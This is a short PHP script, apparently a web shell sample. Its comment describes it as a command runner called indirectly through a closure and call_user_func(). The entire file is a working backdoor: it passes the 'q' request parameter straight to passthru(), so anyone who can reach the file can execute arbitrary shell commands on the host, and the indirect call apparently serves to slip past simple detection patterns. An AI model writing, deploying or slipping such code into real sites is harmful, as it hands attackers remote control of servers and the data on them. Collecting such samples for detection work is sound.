<?php
// A command runner held in a closure and called through call_user_func().
$x = function ($c) {
    passthru($c . ' 2>&1');
};
call_user_func($x, $_REQUEST['q']);
